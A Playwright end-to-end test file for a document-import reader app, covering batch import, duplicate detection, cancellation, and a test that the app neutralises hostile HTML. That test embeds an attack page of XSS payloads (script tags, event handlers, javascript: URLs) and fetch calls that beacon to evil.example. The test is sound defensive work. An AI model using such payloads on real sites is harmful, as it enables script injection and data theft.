import { resolve } from 'node:path';
import type { Page } from '@playwright/test';
import { test, expect, SHARED_DIR } from './fixtures';
import { gapsBetweenRows } from './reader-helpers';

const corpus = (p: string) => resolve(SHARED_DIR, 'corpus', p);

/** Records every state the import progress panel shows, so a fast import still proves it showed progress. */
async function recordProgress(page: Page): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const seen: string[] = [];
    (window as unknown as { progressSeen: string[] }).progressSeen = seen;
    new MutationObserver(() => {
      const panel = document.querySelector('.import-progress');
      const text = panel?.textContent ?? '';
      if (text && seen[seen.length - 1] !== text) seen.push(text);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  return () => page.evaluate(() => (window as unknown as { progressSeen: string[] }).progressSeen);
}

test('a mixed batch imports with progress and a summary, and every source opens in the reader', async ({ app: page }) => {
  const progress = await recordProgress(page);
  await page.getByLabel('Import files').setInputFiles([
    corpus('readability/wikipedia-3/source.html'),
    corpus('readability/gmw/source.html'),
    corpus('documents/pdf/recognizePDF_test_title.pdf'),
    corpus('documents/docx/mammoth-testdata/footnotes.docx'),
    corpus('documents/markdown/opencc-js/README-zh-CN.md'),
    corpus('documents/text/charsets/gbk.txt'),
    corpus('documents/pdf/03-invalid.pdf'),
  ]);
  const summary = page.getByRole('dialog', { name: 'Import finished' });
  await expect(summary).toBeVisible({ timeout: 60_000 });
  await expect(summary).toContainText('6 imported, 0 skipped as duplicates, 1 failed');
  await expect(summary.getByRole('region', { name: 'Failed' })).toContainText('03-invalid.pdf');
  const seen = await progress();
  expect(seen[0]).toMatch(/Importing 1 of 7/);
  expect(seen.some((s) => /Importing 7 of 7/.test(s))).toBe(true);
  await summary.getByRole('button', { name: 'Close' }).click();

  await expect(page.getByRole('link', { name: /Library/ })).toContainText('6');
  const sources = page.getByRole('region', { name: 'Sources' }).getByRole('link');
  await expect(sources).toHaveCount(6);
  for (let i = 0; i < 6; i++) {
    await sources.nth(i).click();
    const reader = page.getByRole('article');
    await expect(reader.getByRole('heading', { level: 2 }).first()).not.toBeEmpty();
    await expect(reader.locator('.block').first()).toBeVisible();
    // Blocks of every height (headings, tables, page markers, Chinese paragraphs) stack where they were measured.
    await expect.poll(() => gapsBetweenRows(page, '.reader-body-list > .virtual-row')).toEqual([]);
  }
  await expect.poll(() => gapsBetweenRows(page, '.library-list .virtual-list-item')).toEqual([]);
  await sources.filter({ hasText: 'Hermitian matrix' }).click();
  await expect(page.getByRole('article').getByRole('region', { name: 'References' }).getByRole('listitem')).toHaveCount(5);
  await sources.filter({ hasText: 'Bitcoin' }).click();
  await expect(page.getByRole('article').getByText('Page 2', { exact: true })).toBeVisible();
  await expect(page.getByRole('article').getByRole('region', { name: 'References' }).getByRole('listitem')).toHaveCount(8);
});

test('importing the same file again is recognised as a duplicate', async ({ app: page }) => {
  const file = corpus('readability/bbc-1/source.html');
  await page.getByLabel('Import files').setInputFiles(file);
  await expect(page.getByTestId('notice-success')).toContainText('Imported');
  await page.getByLabel('Import files').setInputFiles(file);
  await expect(page.getByTestId('notice-success').last()).toContainText('already in the workspace; no second copy was made');
  await expect(page.getByRole('link', { name: /Library/ })).toContainText('1');
});

test('a page full of script payloads imports as text and runs none of them', async ({ app: page, baseURL }) => {
  const dialogs: string[] = [];
  const consoleMessages: string[] = [];
  const requests: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('console', (m) => consoleMessages.push(m.text()));
  page.on('request', (r) => requests.push(r.url()));
  const payload = `<!doctype html><html><head><title>Attack page</title><script>alert('head')</script>
    <meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body>
    <article><h1>Attack page</h1>
    <p>First paragraph with an <img src="https://evil.example/x.png" onerror="alert('img')"> image.</p>
    <p onclick="alert('click')" onmouseover="console.log('hover')">Second <a href="javascript:alert('link')">link</a> paragraph.</p>
    <svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
    <iframe src="javascript:alert('iframe')"></iframe><object data="https://evil.example/x.swf"></object>
    <p>Third paragraph <b onmouseenter="fetch('https://evil.example/steal')">bold</b> text, long enough to be an article body for extraction.</p>
    <script>console.log('body script'); fetch('https://evil.example/beacon')</script>
    <style>@import url(https://evil.example/x.css);</style>
    </article></body></html>`;
  await page.getByLabel('Import files').setInputFiles({ name: 'attack.html', mimeType: 'text/html', buffer: Buffer.from(payload) });
  await expect(page.getByTestId('notice-success')).toContainText('Imported “Attack page”');
  const reader = page.getByRole('article');
  await expect(reader).toContainText('First paragraph with an');
  await reader.getByText('Second link paragraph.').hover();
  await reader.getByText('Second link paragraph.').click();
  await page.waitForTimeout(300);
  expect(dialogs).toEqual([]);
  expect(consoleMessages.filter((m) => /hover|body script/.test(m))).toEqual([]);
  expect(requests.filter((u) => !u.startsWith(baseURL ?? '') && !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([]);
  expect(await reader.locator('script, iframe, object, svg[onload], [onclick], [onerror]').count()).toBe(0);
});

test('cancel stops the rest of a batch and leaves no half-stored source', async ({ app: page }) => {
  const files = ['wikipedia-4', 'nytimes-1', 'wapo-1', 'cnn', 'lemonde-1', 'aktualne', 'medicalnewstoday', 'bbc-1'].map((p) => corpus(`readability/${p}/source.html`));
  await page.getByLabel('Import files').setInputFiles([corpus('documents/pdf/wonderland_short.pdf'), ...files]);
  await page.getByRole('button', { name: 'Cancel import' }).click();
  const summary = page.getByRole('dialog', { name: 'Import finished' });
  await expect(summary).toBeVisible({ timeout: 60_000 });
  const text = (await summary.textContent()) ?? '';
  const imported = Number(/(\d+) imported/.exec(text)?.[1]);
  const cancelled = Number(/(\d+) cancelled/.exec(text)?.[1]);
  expect(cancelled).toBeGreaterThan(0);
  expect(imported + cancelled).toBe(9);
  await summary.getByRole('button', { name: 'Close' }).click();
  // Every stored source is whole: it has its text and its original file.
  await page.getByRole('link', { name: /Workspace/ }).click();
  await expect(page.getByText(`${imported} sources,`)).toBeVisible();
});
